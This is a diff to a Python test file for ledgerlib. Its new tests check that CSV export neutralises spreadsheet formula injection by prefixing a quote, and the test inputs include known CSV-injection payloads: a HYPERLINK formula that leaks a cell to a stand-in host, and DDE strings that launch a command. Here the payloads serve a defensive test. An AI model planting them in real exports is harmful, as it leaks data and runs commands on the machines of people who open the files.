@@ -7,7 +7,7 @@ import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
-from ledgerlib.tables import TABLES, load_processed, read_table, write_table
+from ledgerlib.tables import TABLES, load_processed, read_table, write_stamp, write_table
 
 
 def _frame() -> pd.DataFrame:
@@ -106,10 +106,51 @@ def test_read_table_on_a_missing_table_says_to_build(tmp_path):
 
 
 def test_load_processed_returns_the_tables_present(tmp_path):
-    assert load_processed(tmp_path) == {}
     write_table(_frame(), tmp_path, "progress")
     write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
     write_table(pd.DataFrame({"x": [1]}), tmp_path, "not_a_contract_table")
+    write_stamp(tmp_path)
     loaded = load_processed(tmp_path)
     assert set(loaded) == {"ledger", "progress"} and set(loaded) <= set(TABLES)
     assert loaded["ledger"]["task_id"].tolist() == ["T01"]
+
+
+# --- one CSV writer: fields no spreadsheet will run (OWASP CSV injection) ------------------
+
+@pytest.mark.parametrize("text,written", [
+    ('=HYPERLINK("http://x/?d="&A1,"点击")', '\'=HYPERLINK("http://x/?d="&A1,"点击")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\n=1+1"),  # and a bare CR, which would split the row, becomes a quoted line break
+    ("a\r\nb", "a\nb"),
+    ("-3", "-3"), ("+5", "+5"), ("-12.5%", "-12.5%"), ("1e3", "1e3"),  # numbers stay numbers
+    ("安阳市", "安阳市"), ("a=b", "a=b"), ("", ""),
+])
+def test_a_field_starting_like_a_formula_is_written_inert(tmp_path, text, written):
+    import csv
+
+    from ledgerlib.tables import write_csv
+
+    path = write_csv(pd.DataFrame({"说明": pd.array([text], dtype="str"), "数量": [-3]}), tmp_path / "t.csv")
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows == [["说明", "数量"], [written, "-3"]]
+
+
+def test_processed_csv_neutralises_text_but_parquet_keeps_it(tmp_path):
+    df = pd.DataFrame({"matter": pd.array(["=1+2", "普通"], dtype="str"), "count": pd.array([-1, 2], dtype="Int64")})
+    write_table(df, tmp_path, "t")
+    assert read_table("t", tmp_path)["matter"].tolist() == ["=1+2", "普通"]
+    csv = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype=str)
+    assert csv["matter"].tolist() == ["'=1+2", "普通"] and csv["count"].tolist() == ["-1", "2"]
+    assert not list(tmp_path.glob(".*"))  # the temporary file was renamed into place
+
+
+def test_a_header_starting_like_a_formula_is_inert_too(tmp_path):
+    from ledgerlib.tables import write_csv
+
+    write_csv(pd.DataFrame({"=x": [1]}), tmp_path / "h.csv")
+    assert (tmp_path / "h.csv").read_text(encoding="utf-8-sig").splitlines()[0] == "'=x"
